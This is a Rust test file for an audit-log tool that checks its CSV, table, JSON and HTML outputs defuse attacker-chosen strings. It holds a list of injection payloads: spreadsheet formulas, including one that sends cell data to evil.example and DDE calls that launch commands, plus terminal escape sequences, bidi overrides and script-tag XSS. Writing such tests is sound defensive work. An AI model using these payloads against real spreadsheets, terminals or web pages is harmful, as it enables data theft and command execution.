//! Hostile strings: subjects, inbox rule names, folder names, user names and client strings are
//! chosen by whoever controls the mailbox or the client. Through every output of the command
//! line (CSV, table, JSON lines, the HTML report, and the messages on stderr):
//!
//! * no CSV cell starts with `=`, `+`, `-`, `@`, tab or carriage return (a spreadsheet would run
//!   it as a formula), and the text is still all there;
//! * tables show control characters, ANSI/OSC escapes, C1 controls and bidirectional overrides
//!   as visible escapes, never raw;
//! * JSON lines carry the exact text, escaped;
//! * the HTML report contains no markup from the data, and the data round-trips;
//! * text the parser cannot hold as UTF-8 (lone UTF-16 surrogates) does not cost the record.

use std::path::Path;
use std::process::{Command, Output};

use auditsift::record::parse_record;
use serde_json::{Value, json};

/// Strings an attacker can put in a subject, a rule name, a folder name or a client string.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Invoice\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;window title\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[Hscreen cleared",
    "\u{9b}31mC1 CSI",
    "\u{202e}fdp.exe",
    "\u{2066}isolated\u{2069} and \u{200f}marks",
    "nul\0byte",
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<!-- comment",
    "line\nbreak\u{2028}separator",
    "del\u{7f}",
];

/// Characters no table cell or stderr line may carry raw.
fn is_dangerous(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

const SESSION: &str = "6b1c0a7e-93f2-4d3f-8a1e-5c2b7d9e0f11";

/// One record per hostile string, the string in every attacker-chosen field.
fn hostile_records() -> String {
    HOSTILE
        .iter()
        .enumerate()
        .map(|(i, h)| {
            let record = json!({
                "CreationTime": format!("2026-03-02T07:{:02}:00", i),
                "Id": format!("00000000-0000-4000-8000-{i:012}"),
                "Operation": "New-InboxRule",
                "RecordType": 1,
                "Workload": "Exchange",
                "UserId": h,
                "MailboxOwnerUPN": h,
                "SessionId": SESSION,
                "ClientIP": "185.73.124.135:443",
                "ClientInfoString": h,
                "Parameters": [{"Name": "Name", "Value": h}, {"Name": "MoveToFolder", "Value": h}],
                "Item": {"Subject": h, "ParentFolder": {"Path": h}},
                "AffectedItems": [{"Subject": h, "ParentFolder": {"Path": h}}],
                "DestFolder": {"Path": h},
            });
            record.to_string() + "\n"
        })
        .collect()
}

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_auditsift"))
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("auditsift {args:?}: {e}"))
}

fn input(dir: &Path) -> String {
    let path = dir.join("hostile.jsonl");
    std::fs::write(&path, hostile_records()).unwrap_or_else(|e| panic!("{e}"));
    path.display().to_string()
}

fn ok(out: &Output) -> String {
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone()).unwrap_or_else(|e| panic!("output is not UTF-8: {e}"))
}

fn temp() -> tempfile::TempDir {
    tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn csv_cells_never_start_a_formula() {
    let dir = temp();
    let file = input(dir.path());
    for command in ["timeline", "convert", "sessions"] {
        let text = ok(&run(&[command, "--format", "csv", &file]));
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let mut cells = Vec::new();
        for row in reader.records() {
            let row = row.unwrap_or_else(|e| panic!("{command}: bad CSV: {e}"));
            cells.extend(row.iter().map(str::to_owned));
        }
        assert!(cells.len() > 10, "{command}: {text}");
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{command}: a cell a spreadsheet would run: {cell:?}"
            );
        }
        // Defused, not dropped: each string is still there, whole.
        for h in HOSTILE {
            assert!(
                cells.iter().any(|c| c.contains(h)),
                "{command}: {h:?} is missing from the CSV"
            );
        }
    }
}

#[test]
fn tables_show_escapes_instead_of_running_them() {
    let dir = temp();
    let file = input(dir.path());
    for command in ["timeline", "sessions"] {
        let out = run(&[command, "--format", "table", &file]);
        let text = ok(&out);
        let raw: Vec<char> = text.chars().filter(|c| is_dangerous(*c)).collect();
        assert!(
            raw.is_empty(),
            "{command}: raw control characters {raw:?} in\n{text}"
        );
        assert!(!text.contains('\t') && !text.contains('\r'), "{command}");
        assert!(
            text.contains("\\x1b[31mred"),
            "{command}: ESC is not shown\n{text}"
        );
        if command == "timeline" {
            assert!(
                text.contains("\\u{202e}fdp.exe"),
                "{command}: RLO is not shown"
            );
        }
        // Every line of the table is one row: no string broke a row in two.
        let rows = text.lines().count();
        let expected = if command == "timeline" {
            HOSTILE.len() + 1
        } else {
            2
        };
        assert_eq!(rows, expected, "{command}:\n{text}");
    }
}

#[test]
fn json_lines_carry_the_exact_text() {
    let dir = temp();
    let file = input(dir.path());
    let text = ok(&run(&["timeline", "--format", "jsonl", &file]));
    assert!(
        !text.bytes().any(|b| b < 0x20 && b != b'\n'),
        "raw control bytes in JSON lines"
    );
    let records: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    assert_eq!(records.len(), HOSTILE.len());
    for (record, h) in records.iter().zip(HOSTILE) {
        // Ids and names are trimmed when read; client strings are kept as they are.
        assert_eq!(record["UserId"], json!(h.trim()));
        assert_eq!(record["ClientInfoString"], json!(h));
        let flat = record.to_string();
        let wanted = serde_json::to_string(h).unwrap_or_default();
        assert!(flat.contains(&wanted[1..wanted.len() - 1]), "{h:?} lost");
    }
}

#[test]
fn the_html_report_holds_no_markup_from_the_data() {
    let dir = temp();
    let file = input(dir.path());
    let html_path = dir.path().join("report.html");
    let html_name = html_path.display().to_string();
    ok(&run(&["report", "-o", &html_name, &file]));
    let html = std::fs::read_to_string(&html_path).unwrap_or_else(|e| panic!("{e}"));
    let lower = html.to_ascii_lowercase();
    for payload in [
        "<script>alert",
        "</script><script>",
        "<img src=x",
        "<!-- comment",
    ] {
        assert!(
            !lower.contains(payload),
            "{payload:?} is in the report as markup"
        );
    }
    assert_eq!(
        lower.matches("</script").count(),
        lower.matches("<script").count(),
        "a <script> element is closed by the data"
    );
    // The data element still holds every string exactly.
    let start = html
        .find("type=\"application/json\">")
        .map(|i| i + "type=\"application/json\">".len())
        .unwrap_or_else(|| panic!("no data element"));
    let end = start + html[start..].find("</script>").unwrap_or(0);
    let data: Value = serde_json::from_str(&html[start..end]).unwrap_or_else(|e| panic!("{e}"));
    let all = data.to_string();
    for h in HOSTILE {
        let wanted = serde_json::to_string(h).unwrap_or_default();
        assert!(all.contains(&wanted[1..wanted.len() - 1]), "{h:?} lost");
    }
}

#[test]
fn messages_on_stderr_show_no_raw_escapes() {
    let dir = temp();
    let path = dir.path().join("bad.jsonl");
    // Raw escapes in records that cannot be read, and bytes that are not UTF-8.
    std::fs::write(
        &path,
        b"{\"Id\":\"1\",\"Subject\":\"\x1b]0;pwned\x07\x1b[2J\"}\n{\"Id\":\"2\",\"x\":\x1b[31m}\n\xff\x9b31m\xc2\x9b\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let out = run(&["timeline", "--format", "jsonl", &path.display().to_string()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("line 1") && stderr.contains("line 2"),
        "{stderr}"
    );
    let raw: Vec<char> = stderr.chars().filter(|c| is_dangerous(*c)).collect();
    assert!(
        raw.is_empty(),
        "raw control characters {raw:?} on stderr:\n{stderr}"
    );
}

/// AuditData is written by .NET, whose strings may hold a lone UTF-16 surrogate (a subject cut
/// in the middle of an emoji, or crafted); the JSON then has `\ud83d` alone. The record must
/// still be read (the character replaced), not rejected whole.
#[test]
fn lone_surrogates_do_not_cost_the_record() {
    let docs = [
        r#"{"Id":"1","Operation":"Send","Item":{"Subject":"cut emoji \ud83d"}}"#,
        r#"{"Id":"2","Operation":"New-InboxRule","Parameters":[{"Name":"Name","Value":"\udc00rule"}]}"#,
        r#"{"Id":"3","Operation":"HardDelete","AffectedItems":[{"Subject":"\ud800\ud800"}]}"#,
        r#"{"Id":"4","SessionId":"6b1c0a7e-93f2-4d3f-8a1e-5c2b7d9e0f11","ClientInfoString":"\udfff"}"#,
    ];
    for doc in docs {
        let parsed = parse_record(doc);
        assert!(parsed.is_ok(), "{doc}: {:?}", parsed.err());
    }
}
